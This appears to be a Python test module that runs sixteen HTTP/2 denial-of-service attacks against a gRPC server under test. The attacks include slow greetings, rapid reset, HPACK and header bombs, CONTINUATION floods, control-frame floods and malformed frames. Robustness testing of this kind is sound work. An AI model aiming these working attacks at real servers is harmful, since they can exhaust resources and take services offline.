"""Attacks on HTTP/2 itself: what no gRPC library would ever send."""

import socket
from contextlib import suppress

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.hostile.raw import PLAY, Gone, Raw, all_of, message, packed
from tests.hostile.victim import Victim

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def other_protocols(victim: Victim) -> None:
    """Speak HTTP/1.1, TLS, noise, or nothing at all."""
    sayings = [
        b"GET / HTTP/1.1\r\nHost: arena\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
        b"SSH-2.0-x\r\n",
        b"\x00" * 100_000,
        victim.chance.randbytes(50_000),
        PREFACE + b"\xff" * 50_000,
        PREFACE[:7],
        b"",
    ]
    for saying in sayings * victim.force:
        with Raw(victim.address, greets=False) as raw, suppress(Gone):
            raw.send(saying)
            raw.rest(0.01)


def slow_greeting(victim: Victim) -> None:
    """Greet a byte at a time on many connections, and never come to the end."""
    raws = [Raw(victim.address, greets=False) for _ in range(40 * victim.force)]
    with suppress(Gone):
        for byte in PREFACE[:-1]:
            for raw in raws:
                raw.send(bytes([byte]))
    all_of(raws)


def slow_headers(victim: Victim) -> None:
    """Send the headers of a call a byte at a time, on many connections."""
    raws = [Raw(victim.address) for _ in range(20 * victim.force)]
    with suppress(Gone):
        block = packed(raws[0].headers(token=victim.token))
        frame = HeadersFrame(1, block, flags=["END_HEADERS"]).serialize()
        for byte in frame[:-1]:
            for raw in raws:
                raw.send(bytes([byte]))
    all_of(raws)


def idle_connections(victim: Victim) -> None:
    """Open connections and do nothing with them."""
    raws = []
    with suppress(OSError):
        for number in range(200 * victim.force):
            raws.append(Raw(victim.address, greets=number % 2 == 0))
    all_of(raws)


def connection_churn(victim: Victim) -> None:
    """Connect and go, again and again; some in the hardest way."""
    for number in range(150 * victim.force):
        with suppress(Gone, OSError), Raw(victim.address) as raw:
            if number % 2:
                linger = b"\x01\x00\x00\x00\x00\x00\x00\x00"
                raw.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)


def many_streams(victim: Victim) -> None:
    """Open thousands of streams and say nothing in any of them."""
    with Raw(victim.address) as raw, suppress(Gone):
        headers = packed(raw.headers(token=victim.token))
        for number in range(1200 * victim.force):
            stream = 2 * number + 1
            raw.frame(HeadersFrame(stream, headers, flags=["END_HEADERS"]))
        raw.rest(0.15)


def rapid_reset(victim: Victim) -> None:
    """Open streams and reset each at once."""
    with Raw(victim.address) as raw, suppress(Gone):
        headers = packed(raw.headers(token=victim.token))
        for number in range(1200 * victim.force):
            stream = 2 * number + 1
            frame = HeadersFrame(stream, headers, flags=["END_HEADERS"])
            raw.send(frame.serialize() + RstStreamFrame(stream, 8).serialize())
        raw.rest(0.15)


def header_bombs(victim: Victim) -> None:
    """Send headers of a megabyte: one, many, and in a block that says so slowly."""
    for count, size in ((1, 1_000_000), (2000, 500), (20_000, 5), (20, 16_000)):
        with Raw(victim.address) as raw, suppress(Gone):
            more = [(f"x-{n}", "y" * size) for n in range(count)]
            block = packed(raw.headers(PLAY, *more, token=victim.token))
            pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
            raw.frame(HeadersFrame(1, pieces[0]))
            for piece in pieces[1:]:
                raw.frame(ContinuationFrame(1, piece))
            raw.frame(ContinuationFrame(1, b"", flags=["END_HEADERS"]))
            raw.rest(0.15)


def hpack_bomb(victim: Victim) -> None:
    """Put a large header into the table, and name it ten thousand times a block."""
    with Raw(victim.address) as raw, suppress(Gone):
        named = packed(raw.headers(token=victim.token))
        # A literal with indexing: a name of one letter, a value of 4,000.
        literal = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
        for number in range(20 * victim.force):
            stream = 2 * number + 1
            block = (named if not number else b"") + literal + b"\xbe" * 12_000
            raw.frame(HeadersFrame(stream, block, flags=["END_HEADERS"]))
        raw.rest(0.15)


def hpack_nonsense(victim: Victim) -> None:
    """Send blocks that name what is not there, or are no HPACK at all."""
    blocks = [b"\xff" * 50, b"\x3f\xff\xff\xff\xff\x0f", b"\x80", b"\x00\xff", b""]
    blocks += [victim.chance.randbytes(100) for _ in range(20 * victim.force)]
    for block in blocks:
        with Raw(victim.address) as raw, suppress(Gone):
            raw.frame(HeadersFrame(1, block, flags=["END_HEADERS"]))
            raw.rest(0.01)


def continuation_flood(victim: Victim) -> None:
    """Go on with headers that never end: empty ones, then full ones."""
    for piece in (b"", b"\x00\x01x\x7f\x80\x7c" + b"y" * 15_999):
        with Raw(victim.address) as raw, suppress(Gone):
            raw.frame(HeadersFrame(1, packed(raw.headers())))
            flood = ContinuationFrame(1, piece).serialize() * 20
            for _ in range(100 * victim.force):
                raw.send(flood)
            raw.rest(0.15)


def control_floods(victim: Victim) -> None:
    """Send settings, pings, resets, priorities and windows by the thousand."""
    floods: list[Frame] = [
        SettingsFrame(0, settings={4: 65_535, 3: 100}),
        PingFrame(0, b"12345678"),
        PingFrame(0, b"12345678", flags=["ACK"]),
        SettingsFrame(0, flags=["ACK"]),
        RstStreamFrame(1, 8),
        RstStreamFrame(999, 8),
        PriorityFrame(7, depends_on=5, stream_weight=1),
        WindowUpdateFrame(0, window_increment=1),
        ExtensionFrame(0xEE, 0, body=b"x" * 100),
    ]
    for flood in floods:
        with Raw(victim.address) as raw, suppress(Gone):
            raw.open(token=victim.token)
            pieces = flood.serialize() * 500
            for _ in range(6 * victim.force):
                raw.send(pieces)
                raw.read()


def broken_frames(victim: Victim) -> None:
    """Send frames that break the rules of HTTP/2, one a connection."""
    too_long = b"\xff\xff\xff\x00\x00\x00\x00\x00\x01"
    breaks = [
        too_long + b"x" * 20_000,
        b"\x00\x00\x04\x03\x00\x00\x00\x00\x00" + b"abcd",  # A reset of stream 0.
        b"\x00\x00\x05\x04\x00\x00\x00\x00\x00" + b"abcde",  # Settings cut short.
        b"\x00\x00\x08\x06\x00\x00\x00\x00\x01" + b"abcdefgh",  # A ping of a stream.
        b"\x00\x00\x04\x08\x00\x00\x00\x00\x00" + bytes(4),  # A window by nothing.
        b"\x00\x00\x01\x00\x08\x00\x00\x00\x01\xff",  # More padding than frame.
        b"\x00\x00\x02\x05\x04\x00\x00\x00\x01\x00\x02",  # A promise of a client.
        SettingsFrame(0, settings={4: 2**31}).serialize(),
        SettingsFrame(0, settings={5: 1}).serialize(),
        SettingsFrame(0, settings={2: 7}).serialize(),
        SettingsFrame(0, settings={1: 2**32 - 1}).serialize(),
        WindowUpdateFrame(0, window_increment=2**31 - 1).serialize() * 3,
        b"\x00\x00\x01\x00\x00\x00\x00\x00\x00x",  # Data of no stream.
        DataFrame(77, b"x" * 1000).serialize(),
        HeadersFrame(2, b"\x82", flags=["END_HEADERS"]).serialize(),
        ContinuationFrame(1, b"\x82").serialize(),
        GoAwayFrame(0, last_stream_id=2**31 - 1, error_code=1).serialize(),
    ]
    for broken in breaks * victim.force:
        with Raw(victim.address) as raw, suppress(Gone):
            raw.open(token=victim.token)
            raw.send(broken)
            raw.rest(0.01)


def stream_numbers(victim: Victim) -> None:
    """Use numbers of streams again, backwards, and after saying goodbye."""
    with Raw(victim.address) as raw, suppress(Gone):
        for stream in (9, 3, 9, 9, 1, 2**31 - 1, 11):
            block = packed(raw.headers(token=victim.token))
            flags = ["END_HEADERS", "END_STREAM"]
            raw.frame(HeadersFrame(stream, block, flags=flags))
            raw.frame(GoAwayFrame(0, last_stream_id=0))
        raw.rest(0.15)


def empty_data(victim: Victim) -> None:
    """Send frames of data with nothing in them but padding, by the thousand."""
    with Raw(victim.address) as raw, suppress(Gone):
        stream = raw.open(token=victim.token)
        empty = DataFrame(stream, b"").serialize() * 500
        padded = DataFrame(stream, b"", pad_length=255, flags=["PADDED"]).serialize()
        for _ in range(6 * victim.force):
            raw.send(empty)
            raw.send(padded * 20)
        raw.rest(0.15)


def beyond_the_window(victim: Victim) -> None:
    """Send more data than the arena has opened its window for."""
    with Raw(victim.address) as raw, suppress(Gone):
        stream = raw.open(token=victim.token)
        for _ in range(300 * victim.force):
            raw.data(stream, message(b"", length=2**31) + b"x" * 30_000)
        raw.rest(0.15)


ATTACKS = (
    other_protocols,
    slow_greeting,
    slow_headers,
    idle_connections,
    connection_churn,
    many_streams,
    rapid_reset,
    header_bombs,
    hpack_bomb,
    hpack_nonsense,
    continuation_flood,
    control_floods,
    broken_frames,
    stream_numbers,
    empty_data,
    beyond_the_window,
)
